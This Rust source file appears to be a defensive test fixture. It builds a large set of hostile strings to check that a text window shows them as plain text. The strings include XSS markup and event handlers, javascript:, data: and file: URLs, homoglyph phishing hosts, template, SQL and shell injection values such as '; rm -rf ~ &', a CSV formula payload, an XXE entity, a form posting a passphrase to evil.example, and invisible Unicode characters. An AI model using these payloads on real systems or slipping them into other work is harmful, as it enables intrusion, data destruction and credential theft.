//! Hostile texts, made from families: what each could do in a window that takes text for anything but text.

/// A text, and whether it holds characters that have to be shown by a mark.
pub(crate) struct Payload {
    pub(crate) text: String,
    pub(crate) hidden: bool,
}

const MARKUP: [&str; 42] = [
    "<script>window.broken=1</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=window.broken=1>",
    "<svg onload=window.broken=1>",
    "<svg><script>window.broken=1</script></svg>",
    "<iframe src=javascript:parent.broken=1></iframe>",
    "<iframe srcdoc='<script>parent.broken=1</script>'></iframe>",
    "<body onload=window.broken=1>",
    "<style>*{display:none!important}</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example/>",
    "<form action=https://evil.example><input name=passphrase></form>",
    "<input autofocus onfocus=window.broken=1>",
    "<button formaction=javascript:window.broken=1>ok</button>",
    "<details open ontoggle=window.broken=1>",
    "<video><source onerror=window.broken=1></video>",
    "<audio src=x onerror=window.broken=1>",
    "<object data=data:text/html,<script>window.broken=1</script>></object>",
    "<embed src=javascript:window.broken=1>",
    "<math><mtext><mglyph><style><img src=x onerror=window.broken=1>",
    "<noscript><p title='</noscript><img src=x onerror=window.broken=1>'>",
    "<template><script>window.broken=1</script></template>",
    "<textarea><script>window.broken=1</script></textarea>",
    "<title><img src=x onerror=window.broken=1></title>",
    "<marquee onstart=window.broken=1>",
    "<a href=javascript:window.broken=1>click</a>",
    "<a href=https://evil.example target=_blank>your portal</a>",
    "<dialog open>Your vault is locked. Passphrase:</dialog>",
    "<div style='position:fixed;inset:0;z-index:99999;background:white'>Signed out</div>",
    "<!-- --!><script>window.broken=1</script>",
    "<![CDATA[<script>window.broken=1</script>]]>",
    "<?xml-stylesheet href='javascript:window.broken=1'?>",
    "<!DOCTYPE html [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>&x;",
    "<isindex action=javascript:window.broken=1 type=image>",
    "<table background=javascript:window.broken=1>",
    "<select><option><script>window.broken=1</script></select>",
    "<p/onclick=window.broken=1>",
    "<<script>window.broken=1//<</script>",
    "<img src=`x`onerror=window.broken=1>",
    "<x onpointerrawupdate=window.broken=1>move</x>",
    "<slot name=x></slot><shadow></shadow>",
];

const HANDLERS: [&str; 20] = [
    "onclick",
    "onload",
    "onerror",
    "onfocus",
    "onmouseover",
    "onanimationstart",
    "ontoggle",
    "onbegin",
    "onpaste",
    "oncopy",
    "onwheel",
    "onscroll",
    "onresize",
    "onkeydown",
    "ontransitionend",
    "onpageshow",
    "onmessage",
    "onbeforeinput",
    "onpointerdown",
    "onsearch",
];

const ADDRESSES: [&str; 26] = [
    "javascript:window.broken=1",
    "JaVaScRiPt:window.broken=1",
    "java\tscript:window.broken=1",
    "&#106;avascript:window.broken=1",
    "vbscript:msgbox(1)",
    "data:text/html,<script>window.broken=1</script>",
    "data:text/html;base64,PHNjcmlwdD53aW5kb3cuYnJva2VuPTE8L3NjcmlwdD4=",
    "file:///etc/passwd",
    "blob:https://evil.example/1",
    "tauri://localhost/",
    "ipc://localhost/lock_vault",
    "http://ipc.localhost/lock_vault",
    "asset://localhost/etc/passwd",
    "ftp://evil.example",
    "mailto:a@evil.example?body=x",
    "tel:+15550100",
    "view-source:https://evil.example",
    "http://evil.example/",
    "//evil.example/x",
    "https://portal.example@evil.example/",
    "https://p\u{430}yp\u{430}l.example/login",
    "https://\u{440}\u{43e}rtal.example",
    "https://portal.example\u{2215}login.evil.example",
    "https://xn--80ak6aa92e.example/",
    "https://\u{ff50}ortal.example",
    "[portal](javascript:window.broken=1)",
];

const SYNTAX: [&str; 26] = [
    "{{constructor.constructor('window.broken=1')()}}",
    "${window.broken=1}",
    "{@html '<script>window.broken=1</script>'}",
    "{#if true}<script>window.broken=1</script>{/if}",
    "<%= window.broken=1 %>",
    "#{window.broken=1}",
    "[[${window.broken=1}]]",
    "'; DROP TABLE message; --",
    "\" OR \"\"=\"",
    "text:quokka* NEAR(a b) AND",
    "=HYPERLINK(\"https://evil.example\",\"ok\")",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "%s%s%n%x",
    "$(touch /tmp/broken)",
    "`touch /tmp/broken`",
    "; rm -rf ~ &",
    "\r\nSet-Cookie: a=b\r\n\r\n<script>window.broken=1</script>",
    "\\u003cscript\\u003ewindow.broken=1",
    "\\x3cscript\\x3ewindow.broken=1",
    "&lt;script&gt;window.broken=1&lt;/script&gt;",
    "&amp;lt;script&amp;gt;",
    "&#60;script&#62;window.broken=1",
    "%3Cscript%3Ewindow.broken=1%3C/script%3E",
    "+ADw-script+AD4-window.broken=1",
    "__proto__[broken]=1",
    "{\"resourceType\":\"Bundle\",\"entry\":[{}]}",
];

const SCRIPTS: [&str; 8] = [
    "<svg/onload=window.broken=1>",
    "\"><iframe srcdoc='<script>parent.window.broken=1</script>'></iframe>",
    "{{constructor.constructor('window.broken=1')()}} ${window.broken=1}",
    "<a href=\"javascript:window.broken=1\" autofocus onfocus=window.broken=1>here</a>",
    "<style>@import 'javascript:window.broken=1';*{display:none}</style>",
    "</textarea></title></p><body onpageshow=window.broken=1><object data=javascript:window.broken=1>",
    "<marquee>bold</marquee><!-- marquee --> &lt;i&gt; <br/>",
    "<base href=//x>bold</base><!-- base --> &lt;i&gt; <br/>",
];

const FALSE_SCHEMES: [&str; 6] =
    ["https://", "http://", "javascript://", "data:text/html,", "file:///", "tauri://"];

const FALSE_HOSTS: [&str; 5] = [
    "xn--pypal-4ve.com",
    "p\u{430}ypal.com",
    "\u{430}pple.com",
    "goog\u{2044}le.com",
    "clinic.example@evil.example",
];

/// Characters that nobody sees, or that turn their neighbours around.
const HIDDEN: [char; 40] = [
    '\u{ad}',
    '\u{34f}',
    '\u{61c}',
    '\u{115f}',
    '\u{1160}',
    '\u{17b4}',
    '\u{17b5}',
    '\u{180b}',
    '\u{180e}',
    '\u{200b}',
    '\u{200c}',
    '\u{200d}',
    '\u{200e}',
    '\u{200f}',
    '\u{2028}',
    '\u{2029}',
    '\u{202a}',
    '\u{202b}',
    '\u{202c}',
    '\u{202d}',
    '\u{202e}',
    '\u{2060}',
    '\u{2061}',
    '\u{2062}',
    '\u{2063}',
    '\u{2064}',
    '\u{2066}',
    '\u{2067}',
    '\u{2068}',
    '\u{2069}',
    '\u{206a}',
    '\u{206f}',
    '\u{3164}',
    '\u{fe00}',
    '\u{feff}',
    '\u{ffa0}',
    '\u{fff9}',
    '\u{fffb}',
    '\u{e0001}',
    '\u{e0041}',
];

/// Every payload.
pub(crate) fn all() -> Vec<Payload> {
    let mut found: Vec<Payload> = Vec::new();
    let mut plain = |text: String| found.push(Payload { text, hidden: false });
    for tag in MARKUP {
        plain(tag.to_owned());
        plain(format!("Before {tag} after"));
        plain(tag.to_uppercase().replace("WINDOW.BROKEN", "window.broken"));
    }
    for handler in HANDLERS {
        for element in ["img src=x", "svg", "div style=width:100vw;height:100vh", "input autofocus"] {
            plain(format!("<{element} {handler}=\"window.broken=1\">"));
        }
    }
    for address in ADDRESSES {
        plain(address.to_owned());
        plain(format!("Please look: {address} Thank you."));
    }
    for scheme in FALSE_SCHEMES {
        for host in FALSE_HOSTS {
            plain(format!("Please confirm here: {scheme}{host}/login or {host}"));
        }
    }
    for script in SCRIPTS {
        plain(format!("Please read this: {script}"));
    }
    for syntax in SYNTAX {
        plain(syntax.to_owned());
        plain(format!("A{syntax}B"));
    }
    for (n, mark) in
        ['\u{300}', '\u{301}', '\u{308}', '\u{316}', '\u{489}', '\u{20dd}'].into_iter().enumerate()
    {
        plain(format!("a{} then", mark.to_string().repeat(20)));
        plain(format!("z{}", mark.to_string().repeat(500 + n)));
        plain(format!("z{}algo", mark.to_string().repeat(8 + 9 * n)));
    }
    for huge in [
        "x".repeat(60_000),
        "\n".repeat(20_000),
        "> ".repeat(10_000),
        "\u{1f469}\u{200d}\u{1f467} ".repeat(3_000),
        "<b>".repeat(10_000),
        "W".repeat(300),
        "\u{1e9e}".repeat(120),
        "\u{1f4a5}".repeat(120),
        "'\"`".repeat(120),
    ] {
        plain(huge);
    }
    let mut hidden = |text: String| found.push(Payload { text, hidden: true });
    for character in HIDDEN {
        hidden(format!("in{character}visible"));
        hidden(format!("{character}first"));
        hidden(format!("invoice{character}fdp.exe and <b>{character}{character}</b>"));
    }
    let controls = (1..0x20).chain(0x7f..0xa0).filter(|c| ![0x9, 0xa, 0xd].contains(c));
    for control in controls.filter_map(char::from_u32) {
        hidden(format!("con{control}trol"));
    }
    found
}
